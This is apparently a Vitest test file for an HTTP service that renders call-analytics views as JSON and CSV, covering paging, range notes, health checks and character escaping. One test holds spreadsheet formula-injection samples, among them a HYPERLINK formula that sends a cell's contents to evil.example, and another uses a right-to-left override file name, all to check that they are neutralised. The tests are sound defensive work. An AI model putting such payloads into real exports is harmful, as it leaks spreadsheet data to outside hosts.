import { describe, expect, it } from 'vitest';
import { pageRows } from '../../src/lib/http/paging.js';
import { parseQueryRequest, type QueryRequest } from '../../src/lib/http/queryRequest.js';
import { renderPage, toCsv } from '../../src/lib/http/render.js';
import { healthUnavailable, renderHealth } from '../../src/lib/http/health.js';
import { VIEWS } from '../../src/lib/querying/views.js';
import type { Health } from '../../src/lib/querying/queryRows.js';
import { expectedCells, jsonOf, parseCsv } from './support.js';

function request(view: string, query: string): QueryRequest {
  const parsed = parseQueryRequest(view, new URLSearchParams(query), () => null);
  if (!parsed.success) throw new Error(parsed.response.body);
  return parsed.request;
}

/** Rows shaped like the `calls` view: nulls, nested objects and arrays, text needing CSV quotes. */
const callRows = [
  {
    correlationId: 'c1, "quoted"\nnext line',
    resourceId: 'R',
    recordingCount: 2,
    recordingSeconds: 1.5,
    operations: { StartRecording: 1 },
    operationCount: 1,
    failedOperations: 0,
    matched: true,
    recordings: [{ recordingId: 'r1', lengthSeconds: 1.5 }],
    recordingsWithoutSummary: 0,
    recordingIdsWithoutSummary: [],
    summariesWithoutOperations: 0,
    sdkTypes: ['dotnet'],
    sdkVersions: ['1.0'],
    callConnectionIds: [],
    firstOperationAt: '2024-05-25T00:00:00.000Z',
    lastOperationAt: null,
    durationMs: { p50: 1 },
  },
  {
    correlationId: 'c2',
    resourceId: 'R',
    recordingCount: 0,
    recordingSeconds: 0,
    operations: {},
    operationCount: 0,
    failedOperations: 0,
    matched: false,
    recordings: [],
    recordingsWithoutSummary: 0,
    recordingIdsWithoutSummary: [],
    summariesWithoutOperations: 0,
    sdkTypes: [],
    sdkVersions: [],
    callConnectionIds: [],
    firstOperationAt: null,
    lastOperationAt: null,
    durationMs: null,
  },
];

describe('rendering', () => {
  it('rows kept cut to the fields asked are rendered as they are: a list field computed then is not computed again from the cut row', () => {
    const req = request('calls', 'fields=correlationId,startedAt');
    // Cut as a kept answer is: the list field computed from the whole row, the fields naming a row besides.
    const kept = [{ correlationId: 'c1', startedAt: '2024-05-25T00:00:00.000Z', resourceId: 'R' }];
    expect(jsonOf<{ rows: unknown[] }>(renderPage(req, { rows: kept, next: null }, true)).rows).toEqual([
      { correlationId: 'c1', startedAt: '2024-05-25T00:00:00.000Z' },
    ]);
    // The whole row computes it.
    expect(jsonOf<{ rows: unknown[] }>(renderPage(req, { rows: callRows.slice(0, 1), next: null })).rows).toEqual([
      { correlationId: callRows[0]?.correlationId, startedAt: '2024-05-25T00:00:00.000Z' },
    ]);
  });

  it('startedAt of a call known only from summaries is its earliest recording start, also when a recording without a start sorts first', () => {
    const req = request('calls', 'fields=correlationId,startedAt');
    const summariesOnly = {
      ...callRows[1],
      callStartTime: null,
      recordings: [
        { recordingId: 'ra', startTime: null },
        { recordingId: 'rb', startTime: '2024-05-25T10:05:00.000Z' },
        { recordingId: 'rc', startTime: '2024-05-25T10:20:00.000Z' },
      ],
    };
    expect(jsonOf<{ rows: unknown[] }>(renderPage(req, { rows: [summariesOnly], next: null })).rows).toEqual([
      { correlationId: 'c2', startedAt: '2024-05-25T10:05:00.000Z' },
    ]);
  });

  it('JSON: view, normalized filters (all present, null when not given), rows and a null token on the last page', () => {
    const req = request('calls', 'from=2024-05-25&correlationId=c1');
    const result = renderPage(req, pageRows(callRows, req.page));
    expect(result.status).toBe(200);
    expect(result.headers).toEqual({ 'content-type': 'application/json; charset=utf-8', 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' });
    expect(jsonOf(result)).toEqual({
      view: 'calls',
      filters: { granularity: 'day', from: '2024-05-25T00:00:00.000Z', to: null, resource: null, correlationId: 'c1' },
      notes: [],
      rows: callRows,
      continuationToken: null,
    });
  });

  it('a range inside a bucket is noted, in the JSON body and in x-query-note (for CSV too): the rows count whole buckets', () => {
    for (const [query, note] of [
      [
        'granularity=hour&from=2024-05-25T00:30Z&to=2024-05-25T00:45Z',
        /^rows are whole hours \(granularity=hour\): 2024-05-25T00:30:00.000Z and 2024-05-25T00:45:00.000Z fall inside an hour/,
      ],
      ['from=2024-05-25T06:00Z', /^rows are whole days \(granularity=day\): 2024-05-25T06:00:00.000Z falls inside a day.*use granularity=hour/],
    ] as const) {
      const json = renderPage(request('call-volume', query), { rows: [], next: null });
      expect(jsonOf(json)).toMatchObject({ notes: [expect.stringMatching(note)] });
      expect(json.headers['x-query-note']).toMatch(note);
      const csv = renderPage(request('call-volume', `${query}&format=csv`), { rows: [], next: null });
      expect(csv.headers['x-query-note']).toMatch(note);
    }
    // Whole buckets, and views that filter exactly (a call by its first time), have nothing to note.
    for (const [view, query] of [
      ['call-volume', 'granularity=hour&from=2024-05-25T01:00Z&to=2024-05-25T03:00Z'],
      ['calls', 'from=2024-05-25T00:30Z'],
    ] as const) {
      const result = renderPage(request(view, query), { rows: [], next: null });
      expect(jsonOf(result)).toMatchObject({ notes: [] });
      expect(result.headers['x-query-note']).toBeUndefined();
    }
  });

  it('JSON: the next token is in the body and in x-continuation-token', () => {
    const req = request('calls', 'pageSize=1');
    const page = pageRows(callRows, req.page);
    const result = renderPage(req, page);
    expect(page.next).not.toBeNull();
    expect(result.headers['x-continuation-token']).toBe(page.next);
    expect(jsonOf(result)).toMatchObject({ rows: [callRows[0]], continuationToken: page.next });
  });

  it("CSV: header row of the view's columns in order, then one record per row, objects and arrays as JSON, null empty", () => {
    const req = request('calls', 'format=csv');
    const result = renderPage(req, pageRows(callRows, req.page));
    expect(result.status).toBe(200);
    expect(result.headers).toEqual({ 'content-type': 'text/csv; charset=utf-8', 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' });
    const records = parseCsv(result.body);
    expect(records[0]).toEqual([...(VIEWS['calls']?.columns ?? [])]);
    expect(records.slice(1)).toEqual(expectedCells(VIEWS['calls']?.columns ?? [], callRows));
    expect(records[1]?.[0]).toBe('c1, "quoted"\nnext line');
    expect(records[1]?.[8]).toBe('[{"recordingId":"r1","lengthSeconds":1.5}]');
    expect(records[2]?.[17]).toBe('');
  });

  it('CSV: the next token only in the header; every page repeats the header row; no rows is just the header', () => {
    const req = request('calls', 'format=csv&pageSize=1');
    const page = pageRows(callRows, req.page);
    const result = renderPage(req, page);
    expect(result.headers['x-continuation-token']).toBe(page.next);
    expect(result.body).not.toContain(page.next as string);
    expect(parseCsv(result.body)).toHaveLength(2);
    expect(toCsv(['a', 'b'], [])).toBe('a,b\n');
    expect(toCsv(['a', 'b'], [{ a: 1, b: true, c: 'not a column' }, { b: 'x' }])).toBe('a,b\n1,true\n,x\n');
  });

  it('CSV: text a spreadsheet would run as a formula is written as text (a leading apostrophe); numbers and JSON cells are as they are', () => {
    const rows = [
      { a: '=HYPERLINK("http://evil.example/?"&A1,"click")', b: -5 },
      { a: '+1', b: '@SUM(A1)' },
      { a: '-x', b: '\tTAB' },
      { a: 'plain = text', b: { k: '=x' } },
    ];
    expect(parseCsv(toCsv(['a', 'b'], rows)).slice(1)).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"click")`, '-5'],
      ["'+1", "'@SUM(A1)"],
      ["'-x", "'\tTAB"],
      ['plain = text', '{"k":"=x"}'],
    ]);
  });

  it('CSV: a lone surrogate in a JSON cell is \\ufffd, as in the JSON body, so a strict reader (jq) takes the cell', () => {
    const rows = [{ a: 'x\ud800', b: { 'k\udc00': ['y\ud800'] } }];
    const cells = parseCsv(toCsv(['a', 'b'], rows))[1];
    expect(cells?.[1]).toBe('{"k\\ufffd":["y\\ufffd"]}');
    const body = renderPage(request('rooms', ''), { rows, next: null }).body;
    expect(JSON.parse(cells?.[1] as string)).toEqual((JSON.parse(body) as { rows: { b: unknown }[] }).rows[0]?.b);
  });

  it('health: 200 whether ok or degraded; 503 when storage cannot be read', () => {
    const health: Health = { status: 'degraded', checkedAt: '2024-05-25T00:00:00.000Z', containers: [], stuck: [] };
    expect(renderHealth(health)).toEqual({
      status: 200,
      headers: { 'content-type': 'application/json; charset=utf-8', 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' },
      body: JSON.stringify(health),
    });
    expect(renderHealth({ ...health, status: 'ok' }).status).toBe(200);
    const down = healthUnavailable(Date.UTC(2024, 4, 25));
    expect(down.status).toBe(503);
    expect(jsonOf(down)).toEqual({
      status: 'unavailable',
      checkedAt: '2024-05-25T00:00:00.000Z',
      error: { code: 'storage_unavailable', message: 'storage could not be reached', details: [] },
    });
  });
});

describe('JSON bodies and invisible characters', () => {
  it('writes them as \\uXXXX, as the CLI does, so the body read by curl in a terminal shows what it holds, and parses to the same value', () => {
    const rows = [{ roomId: 'evil\u202etxt.exe', note: 'zero\u200bwidth', joined: '👩\u200d💻' }];
    const result = renderPage(request('rooms', ''), { rows, next: null });
    expect(result.body).not.toMatch(/[\u202e\u200b]/);
    expect(result.body).toContain('evil\\u202etxt.exe');
    expect((JSON.parse(result.body) as { rows: unknown[] }).rows).toEqual(rows);
  });
});

describe('notes on a granularity a view has no use for', () => {
  it('says, as the CLI does, that granularity changes nothing in a view without buckets, only when it was given', () => {
    const given = renderPage(request('calls', 'granularity=hour'), { rows: [], next: null });
    expect((JSON.parse(given.body) as { notes: string[] }).notes).toEqual(['granularity does not apply to calls, whose rows are one per call']);
    expect(given.headers['x-query-note']).toBe('granularity does not apply to calls, whose rows are one per call');
    const csv = renderPage(request('rooms', 'granularity=day&format=csv'), { rows: [], next: null });
    expect(csv.headers['x-query-note']).toBe('granularity does not apply to rooms, whose rows are one per room');
    const notGiven = renderPage(request('calls', ''), { rows: [], next: null });
    expect((JSON.parse(notGiven.body) as { notes: string[] }).notes).toEqual([]);
    expect(notGiven.headers['x-query-note']).toBeUndefined();
    // Two notes in one header are parted by ` | ` (a note itself may hold `; `).
    const both = renderPage(request('retirement', 'granularity=hour&from=2024-05-25T01:00Z'), { rows: [], next: null });
    expect(both.headers['x-query-note']?.split(' | ')).toEqual((JSON.parse(both.body) as { notes: string[] }).notes);
    expect((JSON.parse(both.body) as { notes: string[] }).notes).toHaveLength(2);
    const bucketed = renderPage(request('usage', 'granularity=day'), { rows: [], next: null });
    expect((JSON.parse(bucketed.body) as { notes: string[] }).notes).toEqual([]);
  });
});
